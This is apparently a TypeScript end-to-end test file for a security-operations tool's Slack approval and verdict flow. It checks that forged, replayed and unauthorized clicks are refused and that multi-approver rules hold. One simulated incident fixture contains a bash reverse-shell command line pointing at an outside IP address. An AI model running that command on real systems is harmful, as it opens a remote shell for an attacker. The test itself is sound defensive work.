/**
 * Approvals in Slack, end to end: the real Temporal dev server and playbook worker, Bolt's real HTTP
 * receiver on loopback (intake/slack.ts), and a local server speaking Slack's Web API (test/fakes/slack.ts).
 * An incident asks for approval -> the worker posts a Block Kit message with Approve / Deny -> signed clicks
 * arrive as Slack sends them -> refusals are answered privately, recorded in the decision log and never
 * reach the workflow's history; an authorized click runs the same `decide` Update as HTTP and updates the
 * message with the outcome.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import type { Client } from '@temporalio/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSlackApi } from '../activities/slack/client.js';
import { PolicyEngine } from '../activities/policy/engine.js';
import { approvalsQuery } from '../src/contracts/approval.js';
import type { IncidentStatus } from '../src/contracts/incident.js';
import { repoRoot } from '../src/paths.js';
import {
  approvalRef,
  BLOCK_ACTIONS,
  BLOCK_OUTCOME,
  BLOCK_VERDICT,
  BLOCK_VERDICT_ACTIONS,
} from '../src/slack/blocks.js';
import { approverCheck, AttemptLog, createApprovalDecider } from '../intake/approvals.js';
import { OperatorStore } from '../intake/operators.js';
import { SeenStore, SlackServerConfig, startSlackServer, type SlackServer } from '../intake/slack.js';
import { temporalStarter } from '../intake/incidents.js';
import { incidentStatusVia, VerdictStore } from '../intake/verdicts.js';
import { startFakeSlack, type FakeMessage, type FakeSlack } from './fakes/slack.js';
import { waitForApproval } from './helpers/approvals.js';
import { normalized, reverseShell } from './helpers/events.js';
import { clickPayload, formBody, postSigned, SIGNING_SECRET, until } from './helpers/slack.js';
import { startTestSmtp, type TestSmtp } from './helpers/smtp.js';
import { startWorker, testClient, uniqueQueue, workerEnv } from './helpers/temporal.js';

const TEAM = 'T0VIGIL01';
const APP = 'A0VIGILAPP';
const CHANNEL = 'C0SOC0001';
const GROUP = 'S0APPROVE';
const U = {
  lead: 'U0LEAD0001',
  admin: 'U0ADMIN001',
  analyst: 'U0ANALYST1',
  guest: 'U0GUEST001',
  bot: 'U0BOT00001',
  outsider: 'U0OUTSIDE1',
  unmapped: 'U0NOBODY01',
  deleted: 'U0GONE0001',
  requester: 'U0PLAYBOOK',
};

let client: Client;
let closeClient: () => Promise<void>;
let smtp: TestSmtp;
let slack: FakeSlack;
let server: SlackServer;
let dir: string;
let operators: OperatorStore;
let attempts: AttemptLog;
let seen: SeenStore;
let verdicts: VerdictStore;

beforeAll(async () => {
  ({ client, close: closeClient } = await testClient());
  smtp = await startTestSmtp();
  slack = await startFakeSlack({
    teamId: TEAM,
    channels: [CHANNEL],
    users: [
      { id: U.lead },
      { id: U.admin },
      { id: U.analyst },
      { id: U.guest, is_restricted: true },
      { id: U.bot, is_bot: true },
      { id: U.outsider },
      { id: U.unmapped },
      { id: U.deleted, deleted: true },
      { id: U.requester },
    ],
    groups: {
      [GROUP]: [U.lead, U.admin, U.analyst, U.guest, U.bot, U.unmapped, U.deleted, U.requester],
    },
  });
  dir = mkdtempSync(join(tmpdir(), 'vigil-slack-'));
  const db = join(dir, 'intake.db');
  operators = new OperatorStore(db);
  attempts = new AttemptLog(db);
  seen = new SeenStore(db);
  verdicts = new VerdictStore(db);
  operators.add('lead-1', 'lead', U.lead);
  operators.add('admin-1', 'admin', U.admin);
  operators.add('ana-1', 'analyst', U.analyst);
  operators.add('guest-1', 'lead', U.guest);
  operators.add('bot-1', 'lead', U.bot);
  operators.add('outsider-1', 'lead', U.outsider);
  operators.add('gone-1', 'lead', U.deleted);
  const policy = PolicyEngine.load(join(repoRoot(), 'policies'));
  const config = SlackServerConfig.parse({
    SLACK_BOT_TOKEN: slack.token,
    SLACK_SIGNING_SECRET: SIGNING_SECRET,
    SLACK_TEAM_ID: TEAM,
    SLACK_APP_ID: APP,
    SLACK_APPROVER_GROUPS: GROUP,
    VIGIL_SLACK_API_URL: slack.apiUrl,
  });
  server = await startSlackServer(
    {
      config,
      api: createSlackApi({ token: slack.token, apiUrl: slack.apiUrl, timeoutMs: 3000, retries: 0 }),
      operators,
      attempts,
      seen,
      // Exactly what workers/intake.ts wires: the policy re-check, then the workflow's Update.
      decider: createApprovalDecider({
        operators,
        attempts,
        connection: client.connection,
        namespace: client.options.namespace,
        mayApprove: approverCheck(policy),
      }),
      // Exactly what workers/intake.ts wires for verdicts: `vigil verdict`'s store and status query.
      verdicts: { verdicts, incidentStatus: incidentStatusVia(client) },
      log: () => undefined,
    },
    { host: '127.0.0.1', port: 0 },
  );
});
afterAll(async () => {
  await server?.stop();
  verdicts?.close();
  seen?.close();
  attempts?.close();
  operators?.close();
  await slack?.close();
  await smtp?.close();
  await closeClient?.();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

const host = () => `slk-${randomUUID().slice(0, 8)}`;
const result = (id: string) => client.workflow.getHandle(id).result() as Promise<IncidentStatus>;
const slackEnv = () => ({
  SLACK_BOT_TOKEN: slack.token,
  SLACK_CHANNEL: CHANNEL,
  SLACK_APPROVER_GROUPS: GROUP,
  VIGIL_SLACK_API_URL: slack.apiUrl,
  VIGIL_TEMPORAL_UI_URL: 'http://127.0.0.1:8233',
  VIGIL_APPROVAL_REMIND_AFTER: '4m',
  VIGIL_APPROVAL_ESCALATE_AFTER: '5m',
  VIGIL_APPROVAL_DEADLINE: '6m',
});

/** The request message the worker posted for an approval (found by its metadata, as the activity does). */
const requestMessage = (incidentId: string, approvalId: string) =>
  until(
    () =>
      slack.channels
        .get(CHANNEL)
        ?.find(
          (m) =>
            m.metadata?.event_type === 'vigil_approval_request' &&
            m.metadata.event_payload.incident_id === incidentId &&
            m.metadata.event_payload.approval_id === approvalId,
        ),
    `the Slack request for ${approvalId}`,
  );

const ephemeralsFor = (user: string) => slack.ephemerals.filter((e) => e.user === user).map((e) => e.text);

/** Click as `user`; wait for the private answer (or, for a refused request, the 401). */
async function click(
  user: string,
  message: FakeMessage,
  action: 'vigil_approve' | 'vigil_deny' | 'vigil_verdict_tp' | 'vigil_verdict_fp' = 'vigil_approve',
  o: { ts?: number; signature?: string; body?: string; teamId?: string } = {},
) {
  const before = ephemeralsFor(user).length;
  const body =
    o.body ?? formBody(clickPayload({ user, teamId: o.teamId ?? TEAM, appId: APP, action, message }));
  const res = await postSigned(server.url, body, { ts: o.ts, signature: o.signature });
  const answer =
    res.status === 200 ? await until(() => ephemeralsFor(user)[before], `the answer to ${user}`) : undefined;
  return { status: res.status, answer, body, headers: res.headers };
}

async function acceptedUpdates(id: string): Promise<number> {
  const h = await client.workflow.getHandle(id).fetchHistory();
  return (h.events ?? []).filter((e) => e.workflowExecutionUpdateAcceptedEventAttributes).length;
}

async function withIncident(event: ReturnType<typeof reverseShell>, fn: (id: string) => Promise<void>) {
  const queue = uniqueQueue('slack');
  const worker = await startWorker(workerEnv(smtp.port, queue, slackEnv()));
  try {
    await temporalStarter(client.connection, client.options.namespace, queue, 5000).start(
      event.incidentId,
      event.correlationKey,
      event.event,
    );
    await fn(event.incidentId);
  } finally {
    await worker.stop();
  }
}

describe('approvals in Slack', () => {
  it('posts the request, refuses every unauthorized or forged click, approves once for an authorized lead and updates the message', async () => {
    await withIncident(reverseShell(host()), async (id) => {
      const r = await waitForApproval(client, id);
      const msg = await requestMessage(id, r.approvalId);
      // What a client that has not refreshed yet still shows (the buttons), for the click after the decision.
      const staleView = structuredClone(msg);

      // The message: exact parameters, host, rule, buttons whose value is only the approval reference.
      const actions = msg.blocks?.find((b) => b.block_id === BLOCK_ACTIONS) as {
        elements: { action_id: string; value: string; confirm?: unknown }[];
      };
      expect(actions.elements.map((e) => e.action_id)).toEqual(['vigil_approve', 'vigil_deny']);
      expect(actions.elements.every((e) => e.value === approvalRef(r) && e.confirm)).toBe(true);
      const shown = JSON.stringify(msg.blocks);
      expect(shown).toContain(r.paramsHash);
      expect(shown).toContain(String(r.params.host));
      expect(shown).toContain('isolate-host');
      // The request also went by email (Slack is in addition, not instead).
      await until(
        () => smtp.messages.find((m) => m.headers.get('x-vigil-approval') === r.approvalId),
        'the approval email',
      );

      // Forged or stale requests never reach Bolt's listener: 401, recorded, no answer to anyone. (The exact
      // 300/301 s edge is unit-tested with an injected clock; here a margin keeps a slow second from flaking.)
      const nowS = Math.floor(Date.now() / 1000);
      expect((await click(U.lead, msg, 'vigil_approve', { signature: 'v0=' + 'ab'.repeat(32) })).status).toBe(
        401,
      );
      expect((await click(U.lead, msg, 'vigil_approve', { ts: nowS - 310 })).status).toBe(401);
      expect((await click(U.lead, msg, 'vigil_approve', { ts: nowS + 310 })).status).toBe(401);
      const tampered = formBody(
        clickPayload({ user: U.lead, teamId: TEAM, appId: APP, action: 'vigil_approve', message: msg }),
      );
      const signedOther = (await import('./helpers/slack.js')).sign(SIGNING_SECRET, nowS, tampered);
      expect(
        (
          await click(U.lead, msg, 'vigil_approve', {
            body: tampered.replace('vigil_approve', 'vigil_deny'),
            ts: nowS,
            signature: signedOther,
          })
        ).status,
      ).toBe(401);

      // Signed clicks from people who may not decide: answered privately with the reason.
      expect((await click(U.unmapped, msg)).answer).toMatch(/Refused\* \(unmapped\).*not linked/);
      expect((await click(U.guest, msg)).answer).toMatch(/\(guest\)/);
      expect((await click(U.bot, msg)).answer).toMatch(/\(bot\)/);
      expect((await click(U.deleted, msg)).answer).toMatch(/\(deactivated\)/);
      expect((await click(U.outsider, msg)).answer).toMatch(/\(not-an-approver\)/);
      expect((await click(U.analyst, msg)).answer).toMatch(/\(unauthorized\)/);
      // The requester (here the playbook; an operator row with its id stands in for it) never approves.
      operators.add('requester-probe', 'lead', U.requester);
      (operators as unknown as { db: { prepare(s: string): { run(...a: unknown[]): unknown } } }).db
        .prepare('UPDATE operators SET id = ? WHERE id = ?')
        .run(r.requester, 'requester-probe');
      expect((await click(U.requester, msg)).answer).toMatch(/\((unauthorized|requester)\)/);

      // Nothing of that reached the approval or the history.
      expect((await client.workflow.getHandle(id).query(approvalsQuery))[0]).toMatchObject({
        status: 'pending',
        approvers: [],
      });
      expect(await acceptedUpdates(id)).toBe(0);

      // The authorized lead approves: the same Update, answered privately, the message updated.
      const ok = await click(U.lead, msg);
      expect(ok.status).toBe(200);
      expect(ok.answer).toMatch(/Approved\*: isolate-host/);
      const updated = await until(
        () => (msg.edited && msg.blocks?.some((b) => b.block_id === BLOCK_OUTCOME) ? msg : undefined),
        'the message showing the outcome',
      );
      expect(updated.blocks?.some((b) => b.block_id === BLOCK_ACTIONS)).toBe(false);
      expect(JSON.stringify(updated.blocks)).toMatch(/Approved\* by `lead-1` via slack/);

      // The exact same request again is a replay; a later click is answered "already decided".
      expect(
        (
          await click(U.lead, msg, 'vigil_approve', {
            body: ok.body,
            ts: Number(ok.headers.ts),
            signature: ok.headers.signature,
          })
        ).status,
      ).toBe(401);
      expect((await click(U.admin, staleView, 'vigil_deny')).answer).toMatch(/\(already-decided\)/);

      const out = await result(id);
      expect(out.actions.find((a) => a.action === 'isolate-host')).toMatchObject({
        status: 'approved',
        detail: { approvers: ['lead-1'] },
      });
      expect(await acceptedUpdates(id)).toBe(1);

      // The decision log holds every attempt, refused and accepted.
      const log = attempts
        .list(id)
        .map((a) => `${String(a.operator)}:${String(a.outcome)}:${String(a.code)}`);
      expect(log).toEqual(
        expect.arrayContaining([
          `slack:${U.lead}:refused:bad-signature`,
          `slack:${U.lead}:refused:stale-timestamp`,
          `slack:${U.lead}:refused:future-timestamp`,
          `slack:${U.unmapped}:refused:unmapped`,
          'guest-1:refused:guest',
          'bot-1:refused:bot',
          'gone-1:refused:deactivated',
          'outsider-1:refused:not-an-approver',
          'ana-1:refused:unauthorized',
          'lead-1:accepted:null',
          `slack:${U.lead}:refused:replay`,
          'admin-1:refused:already-decided',
        ]),
      );
      expect(log.filter((l) => l.includes('bad-signature'))).toHaveLength(2);
      expect(log.some((l) => l.startsWith(`${r.requester}:refused:`))).toBe(true);
      // Refusals of signed clicks are on the incident's timeline, as the HTTP path puts them.
      expect(
        out.timeline.filter((t) => /refused approval attempt .* via slack/.test(t.summary)).length,
      ).toBeGreaterThanOrEqual(6);
    });
  });

  it('needs two distinct approvers for a critical action, and refuses the same person twice', async () => {
    const ev = normalized('generic', {
      time: '2026-11-26T09:00:00Z',
      host: host(),
      rule: 'Stolen domain credentials used',
      severity: 'critical',
      techniques: ['T1078.002'],
      user: { name: 'svc-backup', domain: 'CORP' },
      process: {
        pid: 4242,
        name: 'bash',
        commandLine: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1',
        ancestors: [{ name: 'sshd' }],
      },
    });
    await withIncident(ev, async (id) => {
      const isolate = await waitForApproval(client, id);
      expect(isolate.action).toBe('isolate-host');
      const m1 = await requestMessage(id, isolate.approvalId);
      expect((await click(U.lead, m1, 'vigil_deny')).answer).toMatch(/Denied\*: isolate-host/);
      await until(
        () => (JSON.stringify(m1.blocks).includes('*Denied* by') ? true : undefined),
        'the denied message',
      );

      const critical = await until(async () => {
        const all = await client.workflow.getHandle(id).query(approvalsQuery);
        return all.find((a) => a.action === 'disable-account');
      }, 'the critical approval');
      expect(critical).toMatchObject({ class: 'critical', needed: 2 });
      const m2 = await requestMessage(id, critical.approvalId);
      expect((await click(U.lead, m2)).answer).toMatch(/recorded \(1 of 2\)/);
      // The message shows the first approval and keeps its buttons for the second.
      await until(
        () => (JSON.stringify(m2.blocks).includes('(1 of 2)') ? true : undefined),
        'the message showing 1 of 2',
      );
      expect(m2.blocks?.some((b) => b.block_id === BLOCK_ACTIONS)).toBe(true);
      expect((await click(U.lead, m2)).answer).toMatch(/\(duplicate\)/);
      expect((await click(U.admin, m2)).answer).toMatch(/Approved\*: disable-account/);
      await until(
        () =>
          JSON.stringify(m2.blocks).includes('Approved* by `lead-1`') &&
          !m2.blocks?.some((b) => b.block_id === BLOCK_ACTIONS)
            ? true
            : undefined,
        'the message showing both approvers',
      );
      const out = await result(id);
      expect(out.actions.map((a) => [a.action, a.status])).toEqual(
        expect.arrayContaining([
          ['isolate-host', 'denied'],
          ['disable-account', 'approved'],
        ]),
      );
      expect(out.actions.find((a) => a.action === 'disable-account')?.detail).toMatchObject({
        approvers: ['lead-1', 'admin-1'],
      });
      expect(await acceptedUpdates(id)).toBe(3);
      // One request message per approval, however often the worker notified.
      const mine = (slack.channels.get(CHANNEL) ?? []).filter(
        (m) =>
          m.metadata?.event_type === 'vigil_approval_request' && m.metadata.event_payload.incident_id === id,
      );
      expect(mine).toHaveLength(2);
    });
  });
});

describe('analyst verdicts in Slack', () => {
  /** The incident notice the worker posted (found by its metadata, as the activity does). */
  const noticeMessage = (incidentId: string) =>
    until(
      () =>
        slack.channels
          .get(CHANNEL)
          ?.find(
            (m) =>
              m.metadata?.event_type === 'vigil_incident_notice' &&
              m.metadata.event_payload.incident_id === incidentId,
          ),
      `the Slack incident notice for ${incidentId}`,
    );
  const verdictLine = (m: FakeMessage) =>
    JSON.stringify(m.blocks?.find((b) => b.block_id === BLOCK_VERDICT) ?? {});

  it('records True / False positive clicks as the linked operator through the verdict path, once, and shows them', async () => {
    await withIncident(reverseShell(host()), async (id) => {
      const msg = await noticeMessage(id);
      const buttons = msg.blocks?.find((b) => b.block_id === BLOCK_VERDICT_ACTIONS) as {
        elements: { action_id: string }[];
      };
      expect(buttons.elements.map((e) => e.action_id)).toEqual(['vigil_verdict_tp', 'vigil_verdict_fp']);

      // Who may not: refused privately, recorded, nothing stored.
      expect((await click(U.unmapped, msg, 'vigil_verdict_fp')).answer).toMatch(/\(unmapped\)/);
      expect((await click(U.guest, msg, 'vigil_verdict_fp')).answer).toMatch(/\(guest\)/);
      expect((await click(U.bot, msg, 'vigil_verdict_fp')).answer).toMatch(/\(bot\)/);
      expect((await click(U.deleted, msg, 'vigil_verdict_fp')).answer).toMatch(/\(deactivated\)/);
      expect((await click(U.analyst, msg, 'vigil_verdict_fp', { teamId: 'T0OTHER01' })).answer).toMatch(
        /\(wrong-workspace\)/,
      );
      expect(
        (await click(U.analyst, msg, 'vigil_verdict_fp', { signature: 'v0=' + 'cd'.repeat(32) })).status,
      ).toBe(401);
      expect(verdicts.get(id)).toBeUndefined();

      // An analyst (verdicts need no approver group role): recorded as the operator, the message shows it.
      const fp = await click(U.analyst, msg, 'vigil_verdict_fp');
      expect(fp.answer).toMatch(/Recorded: \*false positive\*.*as `ana-1`/);
      expect(verdicts.get(id)).toMatchObject({ verdict: 'fp', operator: 'ana-1', rule: expect.any(String) });
      await until(
        () => (verdictLine(msg).includes('Verdict: False positive* by `ana-1`') ? true : undefined),
        'the message showing the verdict',
      );
      // The same click again (a new request) is a no-op; the exact same request again is a replay.
      expect((await click(U.analyst, msg, 'vigil_verdict_fp')).answer).toMatch(
        /Already recorded.*nothing changed/,
      );
      expect(
        (
          await click(U.analyst, msg, 'vigil_verdict_fp', {
            body: fp.body,
            ts: Number(fp.headers.ts),
            signature: fp.headers.signature,
          })
        ).status,
      ).toBe(401);
      expect(verdicts.history(id)).toHaveLength(1);

      // Another operator changes it: recorded as a change, both kept in the history.
      expect((await click(U.lead, msg, 'vigil_verdict_tp')).answer).toMatch(
        /Recorded: \*true positive\*.*as `lead-1` \(changed from false positive\)/,
      );
      await until(
        () =>
          verdictLine(msg).includes('Verdict: True positive* by `lead-1`') &&
          verdictLine(msg).includes('changed from false positive')
            ? true
            : undefined,
        'the message showing the changed verdict',
      );
      expect(verdicts.history(id).map((h) => [h.verdict, h.operator])).toEqual([
        ['fp', 'ana-1'],
        ['tp', 'lead-1'],
      ]);
      expect(msg.blocks?.some((b) => b.block_id === BLOCK_VERDICT_ACTIONS)).toBe(true);

      const log = attempts
        .list(id)
        .filter((a) => a.approval_id === 'verdict')
        .map((a) => `${String(a.operator)}:${String(a.code)}`);
      expect(log).toEqual(
        expect.arrayContaining([
          `slack:${U.unmapped}:unmapped`,
          'guest-1:guest',
          'bot-1:bot',
          'gone-1:deactivated',
          `slack:${U.analyst}:wrong-workspace`,
          `slack:${U.analyst}:bad-signature`,
        ]),
      );

      // Let the incident finish: deny its pending approval.
      const r = await waitForApproval(client, id);
      expect((await click(U.lead, await requestMessage(id, r.approvalId), 'vigil_deny')).answer).toMatch(
        /Denied/,
      );
      await result(id);
    });
  });
});
